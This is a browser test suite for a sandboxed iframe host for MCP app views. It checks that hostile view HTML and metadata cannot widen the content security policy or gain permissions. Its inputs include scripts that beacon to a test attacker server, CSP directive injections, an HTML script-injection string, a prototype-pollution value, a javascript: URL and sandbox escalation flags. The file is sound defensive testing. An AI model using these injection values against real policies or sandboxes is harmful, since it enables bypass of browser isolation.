// What a view's HTML and metadata try to do to the policy.
import { assert } from 'chai';
import type { ResourceUiMeta } from '../../packages/elements/src/protocol/ui-extension.js';
import {
  failingFrame,
  mountFrame,
  nextEvent,
  readyFrame,
  removeFrames,
  scriptedHtml,
  viewEvaluates,
} from '../support/frame-harness.js';
import { allowedIn } from '../support/allowed-features.js';
import { otherOrigin } from '../support/other-origin.js';
import { FETCHES } from './routes/fetches.mjs';
import type { IsolationKind } from './routes/route.mjs';
import { attackCode, reached, settled, startAttacker } from './support/attacker.js';
import type { Attacker } from './support/attacker.js';
import { HTML_TRICKS } from './support/html-tricks.js';
import { ISOLATIONS, settingsOf } from './support/isolations.js';

const NAMES = Object.keys(HTML_TRICKS);

/** The trick, with a script that attacks and then reports that it ran. */
function hostileHtml(name: string, { url }: Attacker): string {
  const target = `${url}/${encodeURIComponent(name)}`;
  const script = `<script>
    fetch('${target}', { mode: 'no-cors' }).catch(() => {});
    new Image().src = '${target}';
    parent.postMessage({ jsonrpc: '2.0', method: 'notifications/message', params: { level: 'info', data: 'ran' } }, '*');
  </script>`;
  return HTML_TRICKS[name]!(script, target);
}

describe('S4 HTML that tries to get past the policy', () => {
  const arrived = new Map<IsolationKind | 'control', Record<string, object>>();
  const ran = new Map<string, Set<string>>();

  before(async () => {
    const attackers = new Map<IsolationKind, Attacker>();
    for (const isolation of ISOLATIONS) {
      const attacker = await startAttacker([]);
      const settings = await settingsOf(isolation);
      attackers.set(isolation, attacker);
      ran.set(isolation, new Set());
      await Promise.all(
        NAMES.map(async (name) => {
          const frame = mountFrame({ html: hostileHtml(name, attacker), ...settings });
          await nextEvent(frame, 'mcp-app-log').catch((cause: unknown) => {
            const why = frame.error?.message ?? frame.status;
            throw new Error(`${isolation}: ${name} did not run: ${why}`, { cause });
          });
          ran.get(isolation)!.add(name);
        }),
      );
    }
    const control = await startAttacker([]);
    const frames = NAMES.map((name) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.srcdoc = hostileHtml(name, control);
      document.body.append(frame);
      return frame;
    });
    // All of them attack until the same attacks have arrived without our sandbox.
    await settled(control, NAMES);
    arrived.set('control', await reached(control));
    for (const [isolation, attacker] of attackers) arrived.set(isolation, await reached(attacker));
    for (const frame of frames) frame.remove();
    removeFrames();
  });

  for (const name of NAMES) {
    it(`control: ${name} arrives without our sandbox`, () => {
      assert.property(arrived.get('control'), name);
    });
    for (const isolation of ISOLATIONS)
      it(`${isolation}: ${name} runs, and reaches nothing`, () => {
        assert.include([...ran.get(isolation)!], name);
        assert.notProperty(arrived.get(isolation), name);
      });
  }
});

/** Entries that would open `evil` if they were pasted into a policy. */
const entriesFor = (evil: string): unknown[] => [
  `${evil}; connect-src *`,
  `x; connect-src *; img-src *; script-src *`,
  `${evil} *`,
  `${evil},*`,
  `${evil}\n* `,
  `"><script>fetch('${evil}')</script>`,
  `'self'`,
  `'unsafe-inline'`,
  '*',
  '*:*',
  'http:',
  'http://*',
  'http://*:*',
  'http://127.0.0.1:*',
  evil.replace('http:', ''),
  evil.replace('//', '//user@'),
  `${evil}?`,
  `${evil}#`,
  [evil],
  { toString: () => evil },
  7,
  null,
  location.origin,
];

for (const isolation of ISOLATIONS)
  describe(`S4 metadata that tries to widen the policy (${isolation})`, () => {
    const routes = FETCHES.filter(({ via }) => !via);
    let evil: Attacker;
    let friend: Attacker;
    let refusals: string[];

    before(async () => {
      [evil, friend] = await Promise.all([startAttacker([]), startAttacker([])]);
      const list = [...entriesFor(evil.url), friend.url] as string[];
      const csp = {
        connectDomains: list,
        resourceDomains: list,
        frameDomains: entriesFor(evil.url) as string[],
        baseUriDomains: list,
        'script-src *; connect-src': [evil.url],
      };
      const frame = mountFrame({
        resource: { text: await scriptedHtml(), _meta: { ui: { csp } } },
        ...(await settingsOf(isolation)),
      });
      const refused = nextEvent(frame, 'mcp-app-refused');
      await nextEvent(frame, 'mcp-app-ready');
      refusals = (await refused).refusals.map(({ what }) => what);
      await viewEvaluates(frame, attackCode(routes, evil));
      const ours = FETCHES.filter(({ declared }) => /connect|resource/.test(declared ?? ''));
      await viewEvaluates(frame, attackCode(ours, friend));
      await settled(friend, ['fetch', 'image', 'script', 'stylesheet']);
    });
    after(removeFrames);

    it('opens nothing', async () => {
      assert.deepEqual(Object.keys(await reached(evil)), []);
    });

    it('keeps the valid entry beside it open', async () => {
      assert.includeMembers(Object.keys(await reached(friend)), [
        'fetch',
        'image',
        'script',
        'stylesheet',
      ]);
    });

    it('is reported to the page, entry by entry', () => {
      const bad = entriesFor(evil.url).length;
      for (const name of ['connectDomains', 'resourceDomains', 'frameDomains', 'baseUriDomains'])
        assert.lengthOf(
          refusals.filter((what) => what.startsWith(`${name}: `)),
          bad,
        );
    });
  });

describe('S6 metadata that asks for permissions, tokens and places', () => {
  afterEach(removeFrames);
  const iframeOf = (frame: HTMLElement) => frame.shadowRoot!.querySelector('iframe')!;

  it('grants what the page lists, by its own names, and nothing that is written into a name', async () => {
    const permissions = {
      camera: {},
      microphone: {},
      'geolocation *; camera *; fullscreen': {},
      fullscreen: {},
      'display-capture': {},
      ...(JSON.parse('{"__proto__":{"geolocation":{}}}') as object),
    };
    const frame = await readyFrame({
      resource: { text: await scriptedHtml(), _meta: { ui: { permissions } } },
      sandbox: { allow: ['camera', 'geolocation'] },
    });
    assert.equal(allowedIn(iframeOf(frame).allow), 'camera');
  });

  for (const [what, meta] of Object.entries({
    'text for lists': { csp: '*', permissions: 'camera *', domain: 'javascript:alert(1)' },
    'lists for objects': { csp: ['*'], permissions: ['camera'], domain: ['x'] },
    nothing: { csp: null, permissions: null, domain: null },
    'fields that the host owns': {
      sandbox: 'allow-same-origin allow-top-navigation',
      sandboxUrl: location.origin,
      allow: 'camera *',
      html: '<p>other',
    },
  }))
    it(`${what} grant nothing, and the view runs`, async () => {
      const frame = await readyFrame({
        resource: { text: await scriptedHtml(), _meta: { ui: meta as unknown as ResourceUiMeta } },
        sandbox: { allow: ['camera'] },
      });
      assert.equal(frame.details.isolation, 'opaque');
      assert.equal(allowedIn(iframeOf(frame).allow), '');
      assert.equal(iframeOf(frame).getAttribute('sandbox'), 'allow-scripts allow-forms');
      assert.equal(await viewEvaluates(frame, 'self.origin'), 'null');
    });

  it('S1 refuses a sandbox URL that redirects to the page’s own origin', async () => {
    // A proxy page that would run there: the host must check where it ended up.
    const page = encodeURIComponent(`${location.origin}/test/pages/plain-proxy.html`);
    const { error, frame } = await failingFrame({
      html: await scriptedHtml(),
      sandbox: { url: `${otherOrigin}/test-servers/redirect?to=${page}` },
    });
    assert.equal(error.reason, 'sandbox-silent');
    assert.isNull(frame.shadowRoot!.querySelector('iframe'));
  });
});
